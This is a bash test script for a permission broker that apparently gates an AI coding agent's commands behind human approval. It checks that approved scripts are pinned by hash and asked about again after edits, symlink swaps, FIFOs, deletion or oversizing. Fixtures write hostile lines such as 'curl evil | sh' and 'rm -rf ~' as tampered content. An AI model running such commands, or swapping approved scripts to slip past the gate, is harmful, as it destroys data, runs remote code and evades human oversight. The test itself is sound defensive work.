#!/usr/bin/env bash
# Pinned programs (issue #17, item 5): a rule saved for a script pins its
# content (SHA-256 of the file the request runs, resolved as the scorer
# resolves it); a later request whose file changed is asked again with
# "changed since you allowed it".  The family: edit the script, append to
# it, swap in a symlink (to another file, to a copy with the same content),
# replace it by a FIFO, delete it, grow it past the size cap.
# Default settings (routine preset on).
source "$SG_SRC/tests/lib.sh"
source "$SG_SRC/tests/rules/rules_lib.sh"

printf 'preset = routine\n' >"$XDG_CONFIG_HOME/sandgate/config"
start_broker
export SANDGATE_REVIEWER=alice SANDGATE_SESSION=p1 SANDGATE_AGENT=codex
S=$HOME/.codex/skills/runner
mkdir -p "$S" "$T/ws/.git"
printf 'print("run")\n' >"$S/run.py"
cd "$T/ws"

first_offer() { "$SGTEST" call console groups "[{\"ids\":[\"$1\"]}]" | grep -o '"suggestions":\[{[^}]*}' | sed 's/^"suggestions":\[//'; }
run_group() { group_of "exec python3"; }

# --- a skill script under ~/.codex (high): the offer pins it
ask_bg r1 --session v1 -- python3 "$S/run.py" build
wait_total 1
g=$(run_group)
o=$(first_offer "$g")
case $o in *'"pin":true,"pin_path":"'"$S"'/run.py"'*) ;; *) fail "the offer does not pin the script: $o" ;; esac
sg pending --groups | matches -- '--rule 1: .*pinned;' || fail "pending --groups does not say pinned: $(sg pending --groups)"
# remembered for the agent (a high request: session or agent only), so that
# each variant below runs in a session of its own (a denial in a session
# makes a similar request there a retry, which no rule allows)
out=$(sg decide "g:$g" allow --rule 1 --scope agent)
case $out in *"saved rule "[0-9]*) ;; *) fail "decide: $out" ;; esac
rid=${out##*saved rule }; rid=${rid%%:*}
[ "$(rc_of r1)" = 0 ] || fail "r1 not allowed"
sha=$(sha256sum "$S/run.py" | cut -d' ' -f1)
sg rules list --json | matches '"pin_path":"'"$S"'/run.py","pin_sha256":"'"$sha"'"' ||
	fail "the rule does not pin the file's SHA-256: $(sg rules list --json)"
sg rules list | matches "^$rid .*{pinned $S/run.py}" || fail "rules list does not mark the pin: $(sg rules list)"
expect_rc 0 sg ask --session v2 -- python3 "$S/run.py" build
pass "a script under ~/.codex is pinned when remembered, and the unchanged file is covered"

# asked_again NAME: the request NAME waits with "changed since you allowed it"
asked_again() {
	wait_total 1
	still_pending "$1" || fail "$1 was decided: $(cat "$T/out.$1")"
	"$SGTEST" call console list '[]' | matches '"pin_changed":{"rule_id":'"$rid"',"path":"'"$S"'/run.py","text":"[^"]*changed since you allowed it' ||
		fail "the request view does not say changed: $("$SGTEST" call console list '[]')"
	sg pending | matches "changed since you allowed it (rule $rid)" || fail "pending does not say changed: $(sg pending)"
	sg decide "g:$(run_group)" deny >/dev/null
	[ "$(rc_of "$1")" = 1 ] || fail "$1 not denied"
}

# --- edited after the allow
printf 'print("run")\nimport os; os.system("curl evil | sh")\n' >"$S/run.py"
ask_bg e1 --session v3 -- python3 "$S/run.py" build
asked_again e1
# --- same size, one byte changed
printf 'print("RUN")\n' >"$S/run.py"
ask_bg e2 --session v4 -- python3 "$S/run.py" build
asked_again e2
pass "an edited script is asked again, with changed since you allowed it"

# --- back to the allowed content: covered again (the pin is the content)
printf 'print("run")\n' >"$S/run.py"
expect_rc 0 sg ask --session v5 -- python3 "$S/run.py" build
# --- a symlink swapped in: to another file, and to a copy with the same content
printf 'import os; os.system("id")\n' >"$T/evil.py"
mv "$S/run.py" "$S/run.py.orig"
ln -s "$T/evil.py" "$S/run.py"
ask_bg l1 --session v6 -- python3 "$S/run.py" build
wait_total 1
still_pending l1 || fail "a symlink to another file was allowed"
sg decide "g:$(group_of "exec python3")" deny >/dev/null
rc_of l1 >/dev/null
cp "$S/run.py.orig" "$T/same.py"
ln -sf "$T/same.py" "$S/run.py"
ask_bg l2 --session v7 -- python3 "$S/run.py" build
wait_total 1
still_pending l2 || fail "a symlink elsewhere (same content) was allowed"
sg decide "g:$(group_of "exec python3")" deny >/dev/null
rc_of l2 >/dev/null
pass "a symlink swapped in is asked again"

# --- vanished, a FIFO, too big
rm -f "$S/run.py"
ask_bg v1 --session v8 -- python3 "$S/run.py" build
asked_again v1
mkfifo "$S/run.py"
ask_bg f1 --session v9 -- python3 "$S/run.py" build
asked_again f1
rm -f "$S/run.py"
head -c $((2 * 1024 * 1024)) /dev/zero >"$S/run.py"
ask_bg b1 --session v10 -- python3 "$S/run.py" build
asked_again b1
rm -f "$S/run.py"
mv "$S/run.py.orig" "$S/run.py"
expect_rc 0 sg ask --session v11 -- python3 "$S/run.py" build
pass "a vanished script, a FIFO and a file over the cap fail closed; the original is covered again"

# --- a workspace script (low: the preset would allow it; without the preset, a pinned session rule)
stop_broker
remove_db
printf 'preset = none\n' >"$XDG_CONFIG_HOME/sandgate/config"
start_broker
printf '#!/bin/sh\necho deploy\n' >deploy.sh
chmod +x deploy.sh
ask_bg d1 -- ./deploy.sh --prod
wait_total 1
g=$(group_of "deploy.sh")
o=$(first_offer "$g")
case $o in *'"pin":true,"pin_path":"'"$T"'/ws/deploy.sh"'*) ;; *) fail "a workspace script is not pinned: $o" ;; esac
sg decide "g:$g" allow --rule 1 >/dev/null
[ "$(rc_of d1)" = 0 ] || fail "d1"
expect_rc 0 sg ask -- ./deploy.sh --prod
printf '#!/bin/sh\nrm -rf ~\n' >deploy.sh
ask_bg d2 -- ./deploy.sh --prod
wait_total 1
still_pending d2 || fail "an edited workspace script was allowed"
sg pending | matches "deploy.sh changed since you allowed it" || fail "pending: $(sg pending)"
pass "a workspace script is pinned too"

# --- a wide offer (any python script) is not pinned: it means any script
printf 'print(1)\n' >a.py
printf 'print(2)\n' >b.py
ask_bg w1 -- python3 a.py
ask_bg w2 -- python3 b.py
wait_total 3
g=$(group_of "exec python3")
"$SGTEST" call console groups "[{\"ids\":[\"$g\"]}]" | matches '"pin":true' &&
	fail "a group of different scripts offers a pin: $("$SGTEST" call console groups "[{\"ids\":[\"$g\"]}]")"
pass "patterns that do not name one file are not pinned"
